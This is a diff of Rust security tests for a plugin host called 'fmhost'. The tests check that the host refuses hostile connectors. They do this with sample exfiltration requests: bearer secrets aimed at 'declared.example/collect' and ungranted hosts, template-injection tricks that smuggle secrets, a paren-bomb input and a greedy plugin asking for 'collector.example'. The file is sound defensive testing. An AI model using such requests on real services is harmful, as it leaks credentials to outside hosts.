@@ -26,7 +26,12 @@ fn fixtures(dir: &Path, names: &[(&str, &str)]) -> PathBuf {
 
 /// A chaos stage that sends whatever request the run's input holds under its id: the
 /// request text comes from data, as a hostile plugin's own strings would.
-fn call(id: &str, granted: &str, request: Value, requests: &mut serde_json::Map<String, Value>) -> Value {
+fn call(
+    id: &str,
+    granted: &str,
+    request: Value,
+    requests: &mut serde_json::Map<String, Value>,
+) -> Value {
     requests.insert(id.to_string(), request);
     json!({"id": id, "component": "chaos", "optional": true,
            "allowed_hosts": [granted],
@@ -50,7 +55,10 @@ async fn a_hostile_connector_gets_no_secret_and_reaches_no_ungranted_host() {
     // An upstream that echoes the credential it was sent.
     granted.route(
         "/echo",
-        vec![Reply::json(200, json!({"you_sent": format!("Bearer {KEY}")}))],
+        vec![Reply::json(
+            200,
+            json!({"you_sent": format!("Bearer {KEY}")}),
+        )],
     );
     let g = format!("127.0.0.1:{}", granted.addr.port());
     let bomb = format!("{{{{{}x{}}}}}", "(".repeat(5000), ")".repeat(5000));
@@ -58,25 +66,81 @@ async fn a_hostile_connector_gets_no_secret_and_reaches_no_ungranted_host() {
     let mut requests = serde_json::Map::new();
     let r = &mut requests;
     let stages = vec![
-        call("ok", &g, json!({"url": granted.url("/ok"), "headers": bearer("Bearer {{secrets.KEY}}")}), r),
-        call("ungranted-secret", &g, json!({"url": granted.url("/other"), "headers": bearer("Bearer {{secrets.OTHER}}")}), r),
-        call("unbound-host", &g, json!({"url": other.url("/unbound"), "headers": bearer("Bearer {{secrets.KEY}}")}), r),
-        call("declared-host", &g, json!({"url": "https://declared.example/collect", "headers": bearer("Bearer {{secrets.KEY}}")}), r),
-        call("secret-base", &g, json!({"url": "{{secrets.OTHER_URL}}/base"}), r),
-        call("default-trick", &g, json!({"url": format!("{{{{secrets.UNSET | default('{}')}}}}/x?k={{{{secrets.KEY}}}}", other.url("")) }), r),
-        call("upper-filter", &g, json!({"url": granted.url("/upper"), "headers": bearer("Bearer {{secrets.KEY | upper}}")}), r),
-        call("secret-in-path", &g, json!({"url": format!("{}/{{{{secrets.KEY}}}}", granted.url("/c")), "body": "{{secrets.KEY}}"}), r),
-        call("redirect", &g, json!({"url": granted.url("/redirect"), "headers": bearer("Bearer {{secrets.KEY}}")}), r),
-        call("echo", &g, json!({"url": granted.url("/echo"), "headers": bearer("Bearer {{secrets.KEY}}")}), r),
+        call(
+            "ok",
+            &g,
+            json!({"url": granted.url("/ok"), "headers": bearer("Bearer {{secrets.KEY}}")}),
+            r,
+        ),
+        call(
+            "ungranted-secret",
+            &g,
+            json!({"url": granted.url("/other"), "headers": bearer("Bearer {{secrets.OTHER}}")}),
+            r,
+        ),
+        call(
+            "unbound-host",
+            &g,
+            json!({"url": other.url("/unbound"), "headers": bearer("Bearer {{secrets.KEY}}")}),
+            r,
+        ),
+        call(
+            "declared-host",
+            &g,
+            json!({"url": "https://declared.example/collect", "headers": bearer("Bearer {{secrets.KEY}}")}),
+            r,
+        ),
+        call(
+            "secret-base",
+            &g,
+            json!({"url": "{{secrets.OTHER_URL}}/base"}),
+            r,
+        ),
+        call(
+            "default-trick",
+            &g,
+            json!({"url": format!("{{{{secrets.UNSET | default('{}')}}}}/x?k={{{{secrets.KEY}}}}", other.url("")) }),
+            r,
+        ),
+        call(
+            "upper-filter",
+            &g,
+            json!({"url": granted.url("/upper"), "headers": bearer("Bearer {{secrets.KEY | upper}}")}),
+            r,
+        ),
+        call(
+            "secret-in-path",
+            &g,
+            json!({"url": format!("{}/{{{{secrets.KEY}}}}", granted.url("/c")), "body": "{{secrets.KEY}}"}),
+            r,
+        ),
+        call(
+            "redirect",
+            &g,
+            json!({"url": granted.url("/redirect"), "headers": bearer("Bearer {{secrets.KEY}}")}),
+            r,
+        ),
+        call(
+            "echo",
+            &g,
+            json!({"url": granted.url("/echo"), "headers": bearer("Bearer {{secrets.KEY}}")}),
+            r,
+        ),
     ];
     let mut stages = stages;
     // Run input that looks like a template flows into the request as text.
-    stages.push(json!({"id": "data", "component": "chaos", "optional": true, "allowed_hosts": [g],
+    stages.push(
+        json!({"id": "data", "component": "chaos", "optional": true, "allowed_hosts": [g],
         "config": {"mode": "call", "token": "{{secrets.KEY}}", "request": {
             "url": format!("{}?id={{{{input.id}}}}&b={{{{input.bomb}}}}", granted.url("/data")),
-            "headers": {"X-Customer-Id": "{{input.id}}"}}}}));
+            "headers": {"X-Customer-Id": "{{input.id}}"}}}}),
+    );
     let dir = support::scratch("security-hostile");
-    let pipeline = support::write_json(&dir, "hostile.json", &json!({"name": "hostile", "stages": stages}));
+    let pipeline = support::write_json(
+        &dir,
+        "hostile.json",
+        &json!({"name": "hostile", "stages": stages}),
+    );
     let plugins = fixtures(&dir, &[("target/test-plugins", "chaos")]);
     let report = dir.join("report.json");
     let mut cmd = support::fmhost();
@@ -92,10 +156,16 @@ async fn a_hostile_connector_gets_no_secret_and_reaches_no_ungranted_host() {
         .env("FMHOST_SECRET_OTHER", OTHER)
         .env("FMHOST_SECRET_OTHER_URL", other.url(""));
     let ran: support::Ran = support::output(cmd).await.into();
-    let report_text = std::fs::read_to_string(&report).unwrap_or_else(|e| panic!("{e}: {}", ran.stderr));
+    let report_text =
+        std::fs::read_to_string(&report).unwrap_or_else(|e| panic!("{e}: {}", ran.stderr));
     let r: Value = serde_json::from_str(&report_text).unwrap();
     let stage = |id: &str| {
-        r["stages"].as_array().unwrap().iter().find(|s| s["id"] == id).cloned()
+        r["stages"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|s| s["id"] == id)
+            .cloned()
             .unwrap_or_else(|| panic!("no stage {id} in {r}"))
     };
     let error = |id: &str| {
@@ -105,38 +175,89 @@ async fn a_hostile_connector_gets_no_secret_and_reaches_no_ungranted_host() {
     };
 
     assert_eq!(stage("ok")["status"], "succeeded", "{}", ran.stderr);
-    assert_eq!(granted.seen("/ok")[0].header("authorization"), Some(format!("Bearer {KEY}").as_str()));
+    assert_eq!(
+        granted.seen("/ok")[0].header("authorization"),
+        Some(format!("Bearer {KEY}").as_str())
+    );
 
     let e = error("ungranted-secret");
     assert!(e.contains("plugin chaos in stage ungranted-secret: refused: header Authorization: secret OTHER was not granted"), "{e}");
-    assert!(error("unbound-host").contains(&format!("host 127.0.0.1:{} is not granted", other.addr.port())));
-    assert!(error("declared-host").contains("declares declared.example but declaring is not granting"));
+    assert!(error("unbound-host").contains(&format!(
+        "host 127.0.0.1:{} is not granted",
+        other.addr.port()
+    )));
+    assert!(
+        error("declared-host").contains("declares declared.example but declaring is not granting")
+    );
     assert!(error("secret-base").contains("url: secret OTHER_URL was not granted"));
     let e = error("redirect");
-    assert!(e.contains("redirect to") && e.contains("refused") && e.contains("is not granted"), "{e}");
+    assert!(
+        e.contains("redirect to") && e.contains("refused") && e.contains("is not granted"),
+        "{e}"
+    );
 
     // Tricks that are not slots are text: nothing is substituted, nothing sent elsewhere.
     let out = |id: &str| stage(id)["output"].clone();
-    assert!(out("default-trick")["error"]["kind"].as_str().unwrap().ends_with("InvalidRequest"), "{}", out("default-trick"));
+    assert!(
+        out("default-trick")["error"]["kind"]
+            .as_str()
+            .unwrap()
+            .ends_with("InvalidRequest"),
+        "{}",
+        out("default-trick")
+    );
     let upper = &granted.seen("/upper")[0];
-    assert_eq!(upper.header("authorization"), Some("Bearer {{secrets.KEY | upper}}"));
-    let in_path: Vec<_> = granted.all_seen().into_iter().filter(|s| s.path.starts_with("/c/")).collect();
+    assert_eq!(
+        upper.header("authorization"),
+        Some("Bearer {{secrets.KEY | upper}}")
+    );
+    let in_path: Vec<_> = granted
+        .all_seen()
+        .into_iter()
+        .filter(|s| s.path.starts_with("/c/"))
+        .collect();
     assert_eq!(in_path.len(), 1, "{:?}", granted.all_seen());
-    assert!(in_path[0].path.contains("secrets.KEY") && in_path[0].body.as_ref() == b"\"{{secrets.KEY}}\"", "{:?}", in_path[0]);
+    assert!(
+        in_path[0].path.contains("secrets.KEY")
+            && in_path[0].body.as_ref() == b"\"{{secrets.KEY}}\"",
+        "{:?}",
+        in_path[0]
+    );
     let data = &granted.seen("/data")[0];
     assert_eq!(data.header("x-customer-id"), Some("{{secrets.KEY}}"));
-    assert!(data.query.contains("secrets.KEY") && data.query.contains("(((("), "{}", data.query);
+    assert!(
+        data.query.contains("secrets.KEY") && data.query.contains("(((("),
+        "{}",
+        data.query
+    );
     // The echoed credential is masked before the plugin sees the body.
     let echoed = out("echo")["body"].as_str().unwrap().to_string();
-    assert!(echoed.contains("Bearer ***") && !echoed.contains(KEY), "{echoed}");
+    assert!(
+        echoed.contains("Bearer ***") && !echoed.contains(KEY),
+        "{echoed}"
+    );
 
-    assert!(other.all_seen().is_empty(), "the ungranted host saw {:?}", other.all_seen());
+    assert!(
+        other.all_seen().is_empty(),
+        "the ungranted host saw {:?}",
+        other.all_seen()
+    );
     for seen in granted.all_seen() {
         let text = format!("{seen:?}");
-        assert!(!text.contains(OTHER), "OTHER reached the granted host: {text}");
+        assert!(
+            !text.contains(OTHER),
+            "OTHER reached the granted host: {text}"
+        );
     }
-    for (what, text) in [("stdout", &ran.stdout), ("stderr", &ran.stderr), ("report", &report_text)] {
-        assert!(!text.contains(KEY) && !text.contains(OTHER), "a secret in {what}");
+    for (what, text) in [
+        ("stdout", &ran.stdout),
+        ("stderr", &ran.stderr),
+        ("report", &report_text),
+    ] {
+        assert!(
+            !text.contains(KEY) && !text.contains(OTHER),
+            "a secret in {what}"
+        );
     }
 }
 
@@ -152,11 +273,19 @@ async fn spinning_flooding_and_recursing_plugins_do_not_take_the_host_down() {
     let spin = support::write_json(&dir, "spin.json", &one(json!({"mode": "spin"})));
     let started = Instant::now();
     let mut cmd = support::fmhost();
-    cmd.arg("run").arg(&spin).arg("--plugins").arg(&plugins).args(["--timeout", "3s"]);
+    cmd.arg("run")
+        .arg(&spin)
+        .arg("--plugins")
+        .arg(&plugins)
+        .args(["--timeout", "3s"]);
     let ran: support::Ran = support::output(cmd).await.into();
     let took = started.elapsed();
     assert_eq!(ran.code, 1, "{}", ran.stderr);
-    assert!(ran.stderr.contains("run timed out after 3s"), "{}", ran.stderr);
+    assert!(
+        ran.stderr.contains("run timed out after 3s"),
+        "{}",
+        ran.stderr
+    );
     // The plugin's own CPU deadline is 30 s; only the run's deadline can end it this soon.
     assert!(took < Duration::from_secs(20), "took {took:?}");
 
@@ -169,41 +298,75 @@ async fn spinning_flooding_and_recursing_plugins_do_not_take_the_host_down() {
         cmd.arg("run").arg(&p).arg("--plugins").arg(&plugins);
         let ran: support::Ran = support::output(cmd).await.into();
         assert_eq!(ran.code, expect_code, "{mode}: {}", ran.stderr);
-        assert!(ran.stdout.contains(expect) || ran.stderr.contains(expect), "{mode}: {}", ran.stderr);
+        assert!(
+            ran.stdout.contains(expect) || ran.stderr.contains(expect),
+            "{mode}: {}",
+            ran.stderr
+        );
     }
 
     let pipelines = dir.join("pipelines");
     std::fs::create_dir_all(&pipelines).unwrap();
-    support::write_json(&pipelines, "spin.json", &json!({"name": "spin", "stages": [
-        {"id": "chaos", "component": "chaos", "timeout": "20s", "config": {"mode": "spin"}}]}));
-    support::write_json(&pipelines, "selfcall.json", &json!({"name": "selfcall", "stages": [
+    support::write_json(
+        &pipelines,
+        "spin.json",
+        &json!({"name": "spin", "stages": [
+        {"id": "chaos", "component": "chaos", "timeout": "20s", "config": {"mode": "spin"}}]}),
+    );
+    support::write_json(
+        &pipelines,
+        "selfcall.json",
+        &json!({"name": "selfcall", "stages": [
         {"id": "chaos", "component": "chaos", "allowed_hosts": ["127.0.0.1", "localhost"],
-         "config": {"mode": "call", "request": "{{input.request}}"}}]}));
+         "config": {"mode": "call", "request": "{{input.request}}"}}]}),
+    );
     let server = Server::start(&dir, &pipelines, &plugins, &json!({}));
     let client = reqwest::Client::new();
     // A plugin granted "127.0.0.1" on any port still cannot call this server's own API.
     let port = server.url.rsplit(':').next().unwrap().to_string();
-    for url in [format!("{}/v1/plugins", server.url), format!("http://localhost:{port}/v1/runs")] {
-        let resp = client.post(format!("{}/v1/pipelines/selfcall/runs", server.url))
-            .json(&json!({"request": {"url": url}})).send().await.unwrap();
+    for url in [
+        format!("{}/v1/plugins", server.url),
+        format!("http://localhost:{port}/v1/runs"),
+    ] {
+        let resp = client
+            .post(format!("{}/v1/pipelines/selfcall/runs", server.url))
+            .json(&json!({"request": {"url": url}}))
+            .send()
+            .await
+            .unwrap();
         let text = resp.text().await.unwrap();
-        assert!(text.contains("is this fmhost server's own address"), "{text}");
+        assert!(
+            text.contains("is this fmhost server's own address"),
+            "{text}"
+        );
     }
     for _ in 0..2 {
-        let resp = client.post(format!("{}/v1/pipelines/spin/runs?mode=async", server.url)).json(&json!({})).send().await.unwrap();
+        let resp = client
+            .post(format!("{}/v1/pipelines/spin/runs?mode=async", server.url))
+            .json(&json!({}))
+            .send()
+            .await
+            .unwrap();
         assert_eq!(resp.status(), 202, "{}", server.log());
     }
     tokio::time::sleep(Duration::from_millis(300)).await;
     let mut worst = Duration::ZERO;
     for _ in 0..20 {
         let t = Instant::now();
-        let resp = client.get(format!("{}/healthz", server.url)).send().await.unwrap();
+        let resp = client
+            .get(format!("{}/healthz", server.url))
+            .send()
+            .await
+            .unwrap();
         assert_eq!(resp.status(), 200);
         worst = worst.max(t.elapsed());
         tokio::time::sleep(Duration::from_millis(50)).await;
     }
     eprintln!("healthz, worst of 20 while two plugins spin: {worst:?}");
-    assert!(worst < Duration::from_secs(1), "healthz took {worst:?} while plugins spin");
+    assert!(
+        worst < Duration::from_secs(1),
+        "healthz took {worst:?} while plugins spin"
+    );
 }
 
 /// A plugin cannot take a built-in's name; a hot swap whose new version asks for a host
@@ -212,57 +375,131 @@ async fn spinning_flooding_and_recursing_plugins_do_not_take_the_host_down() {
 #[tokio::test]
 async fn names_are_guarded_and_a_swap_that_asks_for_more_is_refused() {
     let dir = support::scratch("security-names");
-    let impostor = fixtures(&dir.join("impostor"), &[("target/test-plugins", "impostor")]);
-    let p = support::write_json(&dir, "v.json", &json!({"name": "v", "stages": [{"id": "a", "component": "logger", "config": {"message": "x"}}]}));
+    let impostor = fixtures(
+        &dir.join("impostor"),
+        &[("target/test-plugins", "impostor")],
+    );
+    let p = support::write_json(
+        &dir,
+        "v.json",
+        &json!({"name": "v", "stages": [{"id": "a", "component": "logger", "config": {"message": "x"}}]}),
+    );
     let mut cmd = support::fmhost();
     cmd.arg("run").arg(&p).arg("--plugins").arg(&impostor);
     let ran: support::Ran = support::output(cmd).await.into();
     assert_eq!(ran.code, 2, "{}", ran.stderr);
-    assert!(ran.stderr.contains("\"schema_validate\" is the name of a built-in component"), "{}", ran.stderr);
+    assert!(
+        ran.stderr
+            .contains("\"schema_validate\" is the name of a built-in component"),
+        "{}",
+        ran.stderr
+    );
 
     // A component that imports wasi:http is refused before it is compiled.
     let http = dir.join("http.wasm");
-    std::fs::write(&http, wat::parse_str(r#"(component (import "wasi:http/outgoing-handler@0.2.0" (instance)))"#).unwrap()).unwrap();
+    std::fs::write(
+        &http,
+        wat::parse_str(r#"(component (import "wasi:http/outgoing-handler@0.2.0" (instance)))"#)
+            .unwrap(),
+    )
+    .unwrap();
     let mut cmd = support::fmhost();
     cmd.args(["plugins", "inspect"]).arg(&http);
     let ran: support::Ran = support::output(cmd).await.into();
     assert_ne!(ran.code, 0);
-    assert!(ran.stderr.contains("imports wasi:http/outgoing-handler@0.2.0, which fmhost does not grant"), "{}", ran.stderr);
+    assert!(
+        ran.stderr
+            .contains("imports wasi:http/outgoing-handler@0.2.0, which fmhost does not grant"),
+        "{}",
+        ran.stderr
+    );
 
     let plugins = fixtures(&dir, &[("target/plugins", "intercom")]);
     let pipelines = dir.join("pipelines");
     std::fs::create_dir_all(&pipelines).unwrap();
-    support::write_json(&pipelines, "ic.json", &json!({"name": "ic", "stages": [
-        {"id": "fetch", "component": "intercom", "config": {"contact_id": "c1"}}]}));
+    support::write_json(
+        &pipelines,
+        "ic.json",
+        &json!({"name": "ic", "stages": [
+        {"id": "fetch", "component": "intercom", "config": {"contact_id": "c1"}}]}),
+    );
     let mut server = Server::start(&dir, &pipelines, &plugins, &json!({"INTERCOM_TOKEN": KEY}));
     let client = reqwest::Client::new();
     let greedy = std::fs::read(plugin_file("target/test-plugins", "greedy")).unwrap();
     let put = |approve: bool| {
         client
-            .put(format!("{}/v1/plugins/intercom{}", server.url, if approve { "?approve=true" } else { "" }))
+            .put(format!(
+                "{}/v1/plugins/intercom{}",
+                server.url,
+                if approve { "?approve=true" } else { "" }
+            ))
             .body(greedy.clone())
             .send()
     };
     let refused = put(false).await.unwrap();
     assert_eq!(refused.status(), 409);
     let body: Value = refused.json().await.unwrap();
-    assert!(body["detail"].as_str().unwrap().contains("asks for host(s) collector.example"), "{body}");
-    let listed: Value = client.get(format!("{}/v1/plugins", server.url)).send().await.unwrap().json().await.unwrap();
-    let intercom = |listed: &Value| listed.as_array().unwrap().iter().find(|p| p["name"] == "intercom").unwrap()["version"].clone();
-    assert_ne!(intercom(&listed), "6.6.6", "the current version keeps serving");
+    assert!(
+        body["detail"]
+            .as_str()
+            .unwrap()
+            .contains("asks for host(s) collector.example"),
+        "{body}"
+    );
+    let listed: Value = client
+        .get(format!("{}/v1/plugins", server.url))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    let intercom = |listed: &Value| {
+        listed
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|p| p["name"] == "intercom")
+            .unwrap()["version"]
+            .clone()
+    };
+    assert_ne!(
+        intercom(&listed),
+        "6.6.6",
+        "the current version keeps serving"
+    );
 
     let approved = put(true).await.unwrap();
     assert_eq!(approved.status(), 200);
-    let resp = client.post(format!("{}/v1/pipelines/ic/runs", server.url)).json(&json!({})).send().await.unwrap();
+    let resp = client
+        .post(format!("{}/v1/pipelines/ic/runs", server.url))
+        .json(&json!({}))
+        .send()
+        .await
+        .unwrap();
     let run: Value = resp.json().await.unwrap();
     let text = run.to_string();
-    assert!(text.contains("secret INTERCOM_TOKEN is not bound to host collector.example"), "{text}");
+    assert!(
+        text.contains("secret INTERCOM_TOKEN is not bound to host collector.example"),
+        "{text}"
+    );
     assert!(!text.contains(KEY));
 
     server.terminate();
     let server = Server::start(&dir, &pipelines, &plugins, &json!({"INTERCOM_TOKEN": KEY}));
-    let listed: Value = client.get(format!("{}/v1/plugins", server.url)).send().await.unwrap().json().await.unwrap();
-    assert_eq!(intercom(&listed), "6.6.6", "the upload serves after a restart: {listed}");
+    let listed: Value = client
+        .get(format!("{}/v1/plugins", server.url))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(
+        intercom(&listed),
+        "6.6.6",
+        "the upload serves after a restart: {listed}"
+    );
 }
 
 /// Run input that reads `{{secrets.KEY}}` is text on the first run and stays text when
@@ -272,27 +509,134 @@ async fn data_that_looks_like_a_reference_stays_text_through_a_replay() {
     let fake = Fake::start().await;
     let dir = support::scratch("security-replay");
     let state = dir.join("state");
-    let pipeline = support::write_json(&dir, "lookup.json", &json!({"name": "lookup", "stages": [
+    let pipeline = support::write_json(
+        &dir,
+        "lookup.json",
+        &json!({"name": "lookup", "stages": [
         {"id": "fetch", "component": "http-request", "config": {
             "url": format!("{}/c", fake.url("")), "query_params": {"id": "{{input.id}}"},
-            "headers": {"Authorization": "Bearer {{secrets.KEY}}"}}}]}));
+            "headers": {"Authorization": "Bearer {{secrets.KEY}}"}}}]}),
+    );
     let fmhost = |args: Vec<String>| {
         let mut cmd = support::fmhost();
-        cmd.arg("--state").arg(&state).args(args).env("FMHOST_SECRET_KEY", KEY);
+        cmd.arg("--state")
+            .arg(&state)
+            .args(args)
+            .env("FMHOST_SECRET_KEY", KEY);
         support::output(cmd)
     };
-    let first: support::Ran = fmhost(vec!["run".into(), pipeline.display().to_string(), "--input-json".into(),
-        json!({"id": "{{secrets.KEY}}"}).to_string()]).await.into();
+    let first: support::Ran = fmhost(vec![
+        "run".into(),
+        pipeline.display().to_string(),
+        "--input-json".into(),
+        json!({"id": "{{secrets.KEY}}"}).to_string(),
+    ])
+    .await
+    .into();
     // The fake answers 404 (no route): the run fails, which is what a replay is for.
     assert_eq!(first.code, 1, "{}", first.stderr);
-    let runs: support::Ran = fmhost(vec!["runs".into(), "list".into(), "--json".into()]).await.into();
+    let runs: support::Ran = fmhost(vec!["runs".into(), "list".into(), "--json".into()])
+        .await
+        .into();
     let run_id = runs.json()[0]["run_id"].as_str().unwrap().to_string();
     let again: support::Ran = fmhost(vec!["replay".into(), run_id]).await.into();
     assert_eq!(again.code, 1, "{}", again.stderr);
     let seen = fake.seen("/c");
     assert_eq!(seen.len(), 2, "{seen:?}");
     for s in &seen {
-        assert_eq!(s.query, "id=%7B%7Bsecrets.KEY%7D%7D", "the id went out as the text it was");
+        assert_eq!(
+            s.query, "id=%7B%7Bsecrets.KEY%7D%7D",
+            "the id went out as the text it was"
+        );
         assert!(!s.query.contains(KEY));
     }
+}
+
+/// A run the server stopped during is resumed once; stopped during again, it is
+/// dead-lettered with the reason at the next start instead of being resumed blindly, so
+/// a run that kills the process cannot do so at every start.
+#[tokio::test]
+async fn a_run_that_keeps_stopping_the_server_is_dead_lettered_not_resumed_forever() {
+    let fake = Fake::start().await;
+    fake.route(
+        "/slow",
+        vec![Reply::json(200, json!({})).delay(Duration::from_secs(60))],
+    );
+    let dir = support::scratch("security-crash-loop");
+    let pipelines = dir.join("pipelines");
+    std::fs::create_dir_all(&pipelines).unwrap();
+    support::write_json(
+        &pipelines,
+        "slow.json",
+        &json!({"name": "slow", "stages": [
+        {"id": "wait", "component": "http-request", "config": {"url": fake.url("/slow")}}]}),
+    );
+    let plugins = dir.join("no-plugins");
+    let client = reqwest::Client::new();
+    let mut server = Server::start(&dir, &pipelines, &plugins, &json!({}));
+    let accepted: Value = client
+        .post(format!("{}/v1/pipelines/slow/runs?mode=async", server.url))
+        .json(&json!({}))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    let run_id = accepted["run_id"].as_str().unwrap().to_string();
+    let calls = |n: usize| {
+        let fake = fake.clone();
+        async move {
+            let deadline = Instant::now() + Duration::from_secs(10);
+            while fake.seen("/slow").len() < n {
+                assert!(Instant::now() < deadline, "the run never called the vendor");
+                tokio::time::sleep(Duration::from_millis(20)).await;
+            }
+        }
+    };
+    calls(1).await;
+    server.child.kill().unwrap();
+    let _ = server.child.wait();
+
+    let mut server = Server::start(&dir, &pipelines, &plugins, &json!({}));
+    calls(2).await;
+    assert!(
+        server.log().contains("resuming interrupted run"),
+        "{}",
+        server.log()
+    );
+    server.child.kill().unwrap();
+    let _ = server.child.wait();
+
+    let server = Server::start(&dir, &pipelines, &plugins, &json!({}));
+    let run: Value = client
+        .get(format!("{}/v1/runs/{run_id}", server.url))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(run["status"], "failed", "{run}");
+    let dlq: Value = client
+        .get(format!("{}/v1/dlq", server.url))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    let entry = dlq
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|e| e["run_id"] == run_id.as_str())
+        .unwrap_or_else(|| panic!("{dlq}"));
+    assert!(
+        entry
+            .to_string()
+            .contains("not resumed, in case it is what stops the server"),
+        "{entry}"
+    );
+    assert_eq!(fake.seen("/slow").len(), 2, "not called a third time");
 }
